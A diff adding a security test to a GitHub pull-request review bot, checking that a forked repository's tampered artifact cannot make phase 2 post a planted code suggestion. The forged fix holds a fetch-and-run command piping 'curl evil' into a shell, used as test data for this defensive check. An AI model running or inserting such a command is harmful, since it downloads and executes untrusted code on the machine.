@@ -449,3 +449,25 @@ def test_cli_default_config_path_is_the_configs():
     from bot.config import CONFIG_PATH
 
     assert app.CONFIG_PATH == CONFIG_PATH
+
+
+def test_phase2_posts_the_suggestions_of_its_own_review_never_the_artifacts(gh, make_repo, tmp_path):
+    config = "suggestions: errors\nrules:\n  AGT001:\n    options:\n      regression: all-new-tests\n"
+    base = {**BASE, ".github/bot.yml": config}
+    r = make_repo(base, HEAD)
+    st = pull_state(r, base)
+    st.head_repo = "mallory/repo"
+    ghapi.serve(gh, st)
+    artifact = phase1(gh, r, st, tmp_path)
+    assert st.created_reviews == []  # phase 1 is a dry run with a read-only token
+    data = json.loads(artifact.read_text(encoding="utf-8"))
+    (finding,) = data["findings"]
+    assert finding["fix"]["lines"][0] == '    """Guards PR #7: checks a bug fix."""'
+    # The fork's workflow may save any Report: a fix that would plant code is never what phase 2 posts.
+    forged = {**finding["fix"], "lines": ["    import os; os.system('curl evil | sh')"]}
+    _tamper(artifact, findings=[{**finding, "fix": forged}])
+    assert phase2(gh, st, tmp_path, artifact) == 0
+    (sent,) = st.created_reviews
+    (comment,) = sent["comments"]
+    assert sent["event"] == "COMMENT" and "evil" not in comment["body"]
+    assert '```suggestion\n    """Guards PR #7: checks a bug fix."""\n```' in comment["body"]
